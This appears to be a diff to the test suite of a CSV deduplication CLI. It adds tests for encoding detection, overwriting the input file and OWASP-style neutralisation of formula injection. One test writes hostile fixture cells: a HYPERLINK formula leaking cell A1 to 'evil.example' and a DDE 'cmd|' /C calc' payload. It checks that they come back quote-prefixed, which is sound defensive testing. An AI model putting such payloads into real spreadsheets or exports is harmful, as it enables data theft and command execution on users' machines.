@@ -8,6 +8,7 @@ import { fileURLToPath } from 'node:url';
 import Papa from 'papaparse';
 import { afterAll, describe, expect, it } from 'vitest';
 import { runDedupe } from './cli';
+import { neutraliseCell } from '../../utils/csv/write';
 
 const FIXTURES = fileURLToPath(new URL('./__fixtures__/', import.meta.url));
 const dir = mkdtempSync(join(tmpdir(), 'dealside-dedupe-'));
@@ -38,7 +39,8 @@ describe('dedupe CLI', () => {
     const rows = readCsv(out);
     expect(rows.length).toBe(original.length);
     expect(rows[0]).toEqual([...original[0]!, 'cluster_id', 'match_score', 'match_reasons']);
-    rows.forEach((row, i) => expect(row.slice(0, original[0]!.length)).toEqual(original[i]));
+    // every original cell back, formula-like ones (a phone such as +34 …) behind a quote
+    rows.forEach((row, i) => expect(row.slice(0, original[0]!.length)).toEqual(original[i]!.map(neutraliseCell)));
     // rows 1–2 (José María / Chema), 3–4 (María José / Maria Jose), 5–6 (Robert / Bob), 9–10 (Francisco / Paco)
     for (const [a, b] of [[1, 2], [3, 4], [5, 6], [9, 10]]) expect(clusterOf(rows, a!)).toBe(clusterOf(rows, b!));
     // colleagues Ana and Juan Pérez Ruiz are two people
@@ -135,6 +137,76 @@ describe('dedupe CLI', () => {
     const { code, stderr } = await run(fixture, ['--kind', 'contacts']);
     expect(code).toBe(2);
     expect(stderr).toMatch(message);
+  });
+
+  it('UTF-16 without a byte-order mark: exit code 2 naming the encoding; with a BOM it is read and written back as UTF-16', async () => {
+    const text = 'First Name,Last Name,Email\r\nJosé,García,jose@acme.es\r\nJose,Garcia,JOSE@acme.es\r\n';
+    let stderr = '';
+    const io = { stderr: { write: (s: string) => (stderr += s) } };
+    const noBom = join(dir, 'utf16-nobom.csv');
+    writeFileSync(noBom, Buffer.from(text, 'utf16le'));
+    expect(await runDedupe([noBom, '--out', join(dir, 'o1.csv')], io)).toBe(2);
+    expect(stderr).toMatch(/UTF-16 LE without a byte-order mark/);
+    const withBom = join(dir, 'utf16-bom.csv');
+    writeFileSync(withBom, Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]));
+    const out = join(dir, 'o2.csv');
+    stderr = '';
+    expect(await runDedupe([withBom, '--out', out], io), stderr).toBe(0);
+    expect(stderr).toMatch(/2 rows, 3 columns, UTF-16 LE, "," delimited/);
+    const bytes = readFileSync(out);
+    expect([...bytes.subarray(0, 2)]).toEqual([0xff, 0xfe]);
+    const rows = Papa.parse<string[]>(bytes.subarray(2).toString('utf16le'), { skipEmptyLines: true }).data;
+    expect(rows[1]!.slice(0, 3)).toEqual(['José', 'García', 'jose@acme.es']);
+    expect(clusterOf(rows, 1)).toBe(clusterOf(rows, 2));
+  });
+
+  it('a byte that is not UTF-8 far into the file: the whole file is read again as Windows-1252', async () => {
+    const lines = ['First Name,Last Name,Email'];
+    for (let i = 0; i < 20_000; i++) lines.push(`Ana${i},Lopez,ana${i}@example.com`);
+    lines.push('Íñigo,Núñez,inigo@example.com');
+    const input = join(dir, 'late-win1252.csv');
+    writeFileSync(input, iconv.encode(`${lines.join('\r\n')}\r\n`, 'win1252'));
+    const out = join(dir, 'o3.csv');
+    let stderr = '';
+    expect(await runDedupe([input, '--out', out], { stderr: { write: (s: string) => (stderr += s) } }), stderr).toBe(0);
+    expect(stderr).toMatch(/20001 rows, 3 columns, Windows-1252/);
+    const rows = readCsv(out, 'win1252');
+    expect(rows.length).toBe(20_002);
+    expect(rows.at(-1)!.slice(0, 2)).toEqual(['Íñigo', 'Núñez']);
+  }, 60_000);
+
+  it('formula injection: hostile cells and headers are written neutralised (OWASP), the rest as read', async () => {
+    const input = join(dir, 'hostile.csv');
+    writeFileSync(
+      input,
+      [
+        'First Name,Last Name,=Email,Notes',
+        'Ana,López,ana@acme.es,"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"',
+        'Ana,Lopez,ANA@acme.es,+1+cmd|\' /C calc\'!A0',
+        '@SUM(1+1),-Pérez,x@acme.es,"\t=1+1"',
+      ].join('\r\n'),
+    );
+    const out = join(dir, 'out-hostile.csv');
+    let stderr = '';
+    expect(await runDedupe([input, '--out', out, '--map', 'email==Email'], { stderr: { write: (s: string) => (stderr += s) } }), stderr).toBe(0);
+    const text = readFileSync(out, 'utf8');
+    expect(text.split('\r\n')[0]).toBe(`First Name,Last Name,"'=Email",Notes,cluster_id,match_score,match_reasons`);
+    const rows = readCsv(out);
+    expect(rows[1]![3]).toBe(`'=HYPERLINK("http://evil.example/?leak="&A1,"Click")`);
+    expect(rows[2]![3]).toBe(`'+1+cmd|' /C calc'!A0`);
+    expect(rows[3]!.slice(0, 4)).toEqual(["'@SUM(1+1)", "'-Pérez", 'x@acme.es', "'\t=1+1"]);
+    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(clusterOf(rows, 1)).toBe(clusterOf(rows, 2));
+  });
+
+  it('--out may name the input file: it is read in full before it is replaced', async () => {
+    const { input } = await run('hubspot-contacts.csv', ['--kind', 'contacts']);
+    const original = readCsv(input);
+    let stderr = '';
+    expect(await runDedupe([input, '--out', input], { stderr: { write: (s: string) => (stderr += s) } }), stderr).toBe(0);
+    const rows = readCsv(input);
+    expect(rows.length).toBe(original.length);
+    expect(rows[0]!.slice(-3)).toEqual(['cluster_id', 'match_score', 'match_reasons']);
   });
 
   it('usage errors exit with code 2', async () => {
